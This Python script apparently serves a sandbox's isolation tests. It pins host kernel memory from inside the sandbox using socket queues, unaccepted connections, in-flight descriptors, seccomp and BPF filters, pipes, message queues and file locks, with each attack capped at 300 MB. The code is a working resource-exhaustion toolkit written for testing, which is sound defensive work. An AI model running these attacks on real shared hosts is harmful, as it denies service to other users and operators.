"""Pinning memory of the host's kernel that no limit of the sandbox covers. Each attack yields the bytes that it took
with each step, as far as it knows; all of it is held until stdin ends, while the test measures the host's memory."""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import itertools
import os
import resource
import select
import signal
import socket
import struct
import sys
import time
from collections.abc import Iterator

GOAL = 300 << 20  # bytes: enough to see, and no danger to the host
STEPS = 20_000
BUFFER = 64 << 20
SO_MEMINFO, SO_ATTACH_FILTER, SO_TIMESTAMPING = 55, 26, 37
IP_RECVERR, IPV6_RECVERR, IPV6_2292PKTOPTIONS = 11, 25, 6
libc = ctypes.CDLL(None, use_errno=True)
held: list[object] = []
UDP, UDP6 = (socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET6, socket.SOCK_DGRAM)


def large(one: socket.socket) -> socket.socket:
    for option in (socket.SO_RCVBUF, socket.SO_SNDBUF):
        with contextlib.suppress(OSError):
            one.setsockopt(socket.SOL_SOCKET, option, BUFFER)
    one.setblocking(False)
    held.append(one)
    return one


def sockets(*kind: int) -> Iterator[socket.socket]:
    with contextlib.suppress(OSError):
        while True:
            yield large(socket.socket(*kind))


def taken(one: socket.socket) -> int:
    """The memory of a socket's queues and options."""
    rmem, _, wmem, _, _, queued, options, *_ = struct.unpack("=9I", one.getsockopt(socket.SOL_SOCKET, SO_MEMINFO, 36))
    return int(rmem + max(wmem, queued) + options)


def filled(one: socket.socket, size: int, *more: int, times: int = 8000) -> int:
    """Send until the queues of the sender or the receiver are full: then they no longer grow."""
    before = -1
    for number in range(times):
        with contextlib.suppress(OSError):
            one.send(bytes(size), *more)
        if number % 64 == 63:
            if taken(one) == before:
                break
            before = taken(one)
    return taken(one)


def netlink() -> Iterator[int]:
    """A failed request is echoed in the reply, which waits in the socket's queue."""
    request = struct.pack("=IHHII", 32000, 999, 5, 1, 0) + bytes(32000 - 16)
    for one in sockets(socket.AF_NETLINK, socket.SOCK_RAW, 0):
        before = -1
        while taken(one) > before:
            before = taken(one)
            with contextlib.suppress(OSError):
                one.send(request)
        yield before


def udp_errors() -> Iterator[int]:
    """Datagrams to a closed port come back as ICMP errors, which wait in the socket's error queue."""
    for one in sockets(*UDP):
        with contextlib.suppress(OSError):
            one.setsockopt(socket.IPPROTO_IP, IP_RECVERR, 1)
        one.connect(("127.0.0.1", 9))
        yield filled(one, 900)


def udp6_errors() -> Iterator[int]:
    for one in sockets(*UDP6):
        with contextlib.suppress(OSError):
            one.setsockopt(socket.IPPROTO_IPV6, IPV6_RECVERR, 1)
        one.connect(("::1", 9))
        yield filled(one, 1200)


def udp_timestamps() -> Iterator[int]:
    """A transmit timestamp waits in the error queue with its datagram."""
    wanted = [(socket.SOL_SOCKET, SO_TIMESTAMPING, struct.pack("=I", 1 << 1 | 1 << 8))]
    for one in sockets(*UDP):
        one.connect(("127.0.0.1", 9))
        for _ in range(200):
            with contextlib.suppress(OSError):
                one.sendmsg([bytes(60000)], wanted)
        yield taken(one)


def tcp_timestamps() -> Iterator[int]:
    wanted = [(socket.SOL_SOCKET, SO_TIMESTAMPING, struct.pack("=I", 1 << 1 | 1 << 8))]
    listener = _listener()
    for near in itertools.islice(sockets(socket.AF_INET, socket.SOCK_STREAM), 200):  # each holds megabytes
        with contextlib.suppress(OSError):
            near.connect(listener.getsockname())
        far = listener.accept()[0]
        held.append(far)
        for _ in range(200):
            with contextlib.suppress(OSError):
                near.sendmsg([bytes(32768)], wanted)
            with contextlib.suppress(OSError):
                far.recv(1 << 20, socket.MSG_DONTWAIT)
        yield taken(near)


def udp_data() -> Iterator[int]:
    for one in sockets(*UDP):
        one.bind(("127.0.0.1", 0))
        one.connect(one.getsockname())
        yield filled(one, 60000)


def udp_corked() -> Iterator[int]:
    """A datagram that is to be continued waits in the socket."""
    for one in sockets(*UDP):
        one.connect(("127.0.0.1", 9))
        one.send(bytes(60000), socket.MSG_MORE)
        yield taken(one)


def _listener() -> socket.socket:
    one = large(socket.socket())
    one.bind(("127.0.0.1", 0))
    one.listen(4096)
    return one


def tcp_data() -> Iterator[int]:
    listener = _listener()
    for near in sockets(socket.AF_INET, socket.SOCK_STREAM):
        with contextlib.suppress(OSError):
            near.connect(listener.getsockname())
        far = listener.accept()[0]
        held.append(far)
        yield filled(near, 65536) + taken(far)


def tcp_orphans() -> Iterator[int]:
    """Data of closed sockets, which the other side does not read."""
    listener = _listener()
    while True:
        near = large(socket.socket())
        held.pop()
        with contextlib.suppress(OSError):
            near.connect(listener.getsockname())
        far = listener.accept()[0]
        held.append(far)
        size = filled(near, 65536)
        near.close()
        yield size + taken(far)


def tcp_unaccepted() -> Iterator[int]:
    """Data of connections that are not accepted: the kernel charges a connection when it is accepted."""
    while True:
        listener = _listener()
        for _ in range(1000):
            near = large(socket.socket())
            held.pop()
            with contextlib.suppress(OSError):
                near.connect(listener.getsockname())
            filled(near, 65536, times=200)
            near.close()
            yield 131072


def unix_stream() -> Iterator[int]:
    return _unix(socket.SOCK_STREAM)


def unix_datagrams() -> Iterator[int]:
    return _unix(socket.SOCK_DGRAM)


def _unix(kind: int) -> Iterator[int]:
    while True:
        near, far = socket.socketpair(socket.AF_UNIX, kind)
        large(far)
        yield filled(large(near), 65536)


def descriptors_in_flight() -> Iterator[int]:
    """Sockets with data that are themselves in the queue of a socket, and of no process."""
    while True:
        near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        held.extend((near, far))
        for _ in range(16):
            one, two = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
            size = filled(large(one), 65536)
            socket.send_fds(near, [b"x"], [one.fileno(), two.fileno()])
            one.close()
            two.close()
            yield size


def ipv6_neighbours() -> Iterator[int]:
    one = large(socket.socket(*UDP6))
    for number in range(300_000):
        with contextlib.suppress(OSError):
            one.sendto(b"x", (socket.inet_ntop(socket.AF_INET6, b"\x26\x00" + number.to_bytes(14, "big")), 9))
        yield 546


def datagrams_to_many_addresses(port: int) -> Iterator[int]:
    one = large(socket.socket(*UDP))
    for number in range(300_000):
        with contextlib.suppress(OSError):
            one.sendto(b"x", (f"11.{number >> 16}.{number >> 8 & 255}.{number & 255}", port))
        yield 256


def tracked_connections() -> Iterator[int]:
    return datagrams_to_many_addresses(9)


def tracked_lookups() -> Iterator[int]:
    """To the port that is redirected to the DNS server."""
    return datagrams_to_many_addresses(53)


def multicast_groups() -> Iterator[int]:
    for one in sockets(*UDP6):
        with contextlib.suppress(OSError):
            for _ in range(1000):
                group = b"\xff\x02" + os.urandom(14)
                one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group + struct.pack("=I", 1))
        if len(held) > 100:
            return
        yield 300_000


def option_buffers() -> Iterator[int]:
    """A socket keeps its packet options, in which only the address of the sender is allowed."""
    message = struct.pack("=Qii", 16 + 4, 41, 8) + struct.pack("=i", -1) + bytes(4)
    for one in sockets(*UDP6):
        for size in (60000, 16000):
            with contextlib.suppress(OSError):
                one.setsockopt(socket.IPPROTO_IPV6, IPV6_2292PKTOPTIONS, message * (size // len(message)))
                break
        yield taken(one)


def _program(length: int) -> bytes:
    """A program for the kernel that only divides: the most code for its length."""
    divide = struct.pack("=HBBI", 0x34, 0, 0, 3) * (length - 2)
    code = struct.pack("=HBBI", 0x01, 0, 0, 3) + divide + struct.pack("=HBBI", 0x06, 0, 0, 0x7FFF0000)
    kept = ctypes.create_string_buffer(code, len(code))
    held.append(kept)
    return struct.pack("=HxxxxxxQ", length, ctypes.addressof(kept))


def socket_filters() -> Iterator[int]:
    program = _program(1500)
    for one in sockets(*UDP):
        one.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, program)
        yield 1500 * 40


def seccomp_filters() -> Iterator[int]:
    """Their machine code; each process has its own filters."""
    program = ctypes.create_string_buffer(_program(4000))
    libc.prctl(38, 1, 0, 0, 0)
    while True:
        near, far = os.pipe()
        if os.fork() == 0:
            while libc.prctl(22, 2, program, 0, 0) == 0:
                os.write(far, b".")
            os.close(far)
            sys.stdin.read()
            os._exit(0)
        os.close(far)
        count = 0
        while os.read(near, 1):
            count += 1
        if count == 0:
            return
        yield count * 64_000  # measured on x86-64: 93 KB, a part of which is charged


def pipes() -> Iterator[int]:
    while True:
        ends = os.pipe()
        with contextlib.suppress(OSError):
            fcntl.fcntl(ends[1], 1031, 1 << 20)
        os.set_blocking(ends[1], False)
        with contextlib.suppress(BlockingIOError):
            while True:
                os.write(ends[1], bytes(65536))
        yield fcntl.fcntl(ends[1], 1032)


def watched_events() -> Iterator[int]:
    """epoll entries, event counters and timers."""
    while True:
        poll = select.epoll()
        held.append(poll)
        for _ in range(200):
            fds = [libc.eventfd(0, 0), libc.timerfd_create(1, 0)]
            if min(fds) < 0:
                return
            for fd in fds:
                poll.register(fd)
            yield 1000


def message_queues() -> Iterator[int]:
    body = ctypes.create_string_buffer(struct.pack("=Q", 1) + bytes(8000))
    while (queue := libc.msgget(0, 0o600)) >= 0:
        while libc.msgsnd(queue, body, ctypes.c_size_t(8000), 0o4000) == 0:
            yield 8000


def file_locks() -> Iterator[int]:
    """Record locks, in many files: a lock is found by a search through those of its file."""
    for name in range(2000):
        file = os.open(f"/tmp/locked-{name}", os.O_RDWR | os.O_CREAT)
        for number in range(400):
            fcntl.lockf(file, fcntl.LOCK_EX, 1, number * 2)
            yield 192


def locks_left_by_ended_processes() -> Iterator[int]:
    """A process that shares its open files with another ends: no process has the locks then."""
    clone = 56 if os.uname().machine == "x86_64" else 220
    for name in range(2000):
        file = os.open(f"/tmp/locked-{name}", os.O_RDWR | os.O_CREAT)
        child = libc.syscall(clone, 0x400 | 17, 0, 0, 0, 0)  # CLONE_FILES and SIGCHLD
        if child == 0:
            for number in range(400):
                fcntl.lockf(file, fcntl.LOCK_EX, 1, number * 2)
            os._exit(0)
        if child < 0 or os.waitpid(child, 0)[1] != 0:
            return
        yield 400 * 192


def open_file_locks() -> Iterator[int]:
    for name in range(2000):
        file = os.open(f"/tmp/locked-{name}", os.O_RDWR | os.O_CREAT)
        for number in range(400):
            fcntl.fcntl(file, 37, struct.pack("=hhxxxxqqixxxx", fcntl.F_WRLCK, 0, number * 2, 1, 0))
            yield 192


CONNECTIONS = 129 * 10_000  # of a listening socket


def listeners() -> Iterator[int]:
    for one in sockets(socket.AF_INET, socket.SOCK_STREAM):
        one.listen(4096)
        yield CONNECTIONS


def listeners_of_starved_threads() -> Iterator[int]:
    """Approved calls that are not executed yet: processes of the lowest class wait for a busy processor."""
    begin, begun = os.pipe()
    end, ended = os.pipe()
    for _ in range(120):
        one = socket.socket()
        one.bind(("127.0.0.1", 0))
        if os.fork() == 0:
            os.close(begun)
            os.close(ended)
            _listen_without_processor(one, begin)
            os.read(end, 1)
            os._exit(0)
        one.close()
    busy = [_busy_process(begun, ended) for _ in range(16)]
    os.close(begun)
    held.append(ended)
    most, grown, deadline = 0, time.monotonic(), time.monotonic() + 40
    while time.monotonic() < min(deadline, grown + 5 if most else deadline):
        if _listening() > most:
            most, grown = _listening(), time.monotonic()
        time.sleep(0.05)
    for process in busy:
        os.kill(process, signal.SIGKILL)
    yield max(most, _listening()) * CONNECTIONS


def _listen_without_processor(one: socket.socket, begin: int) -> None:
    _on_one_processor(os.SCHED_IDLE)
    os.read(begin, 1)
    while True:
        with contextlib.suppress(OSError):
            return one.listen(4096)
        time.sleep(0.001)


def _busy_process(*unused: int) -> int:
    if (process := os.fork()) == 0:
        for fd in unused:
            os.close(fd)
        _on_one_processor(os.SCHED_OTHER)
        while True:
            pass
    return process


def _on_one_processor(policy: int) -> None:
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    os.sched_setscheduler(0, policy, os.sched_param(0))


def _listening() -> int:
    with open("/proc/net/tcp") as lines:
        return sum(line.split()[3] == "0A" for line in lines)


TOGETHER = ("file_locks", "seccomp_filters", "netlink", "udp_corked", "tcp_unaccepted", "tcp_data", "udp_timestamps")


def together() -> Iterator[int]:
    """All at once, each in a process. The memory of sockets is not in the sum: the host measures it."""
    reports = {}
    for kind in TOGETHER:
        near, far = os.pipe()
        if os.fork() == 0:
            os.write(far, str(attack(kind)).encode())
            sys.stdin.read()
            os._exit(0)
        os.close(far)
        reports[kind] = near
    for kind, near in reports.items():
        size = int(os.read(near, 32) or b"0")
        yield size if kind in ("file_locks", "seccomp_filters") else 0


def attack(kind: str) -> int:
    total = 0
    with contextlib.suppress(OSError):
        for size in globals()[kind]():
            if (total := total + size) > GOAL:
                break
    return total


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(attack(sys.argv[1]), flush=True)  # noqa: T201
    sys.stdin.read()
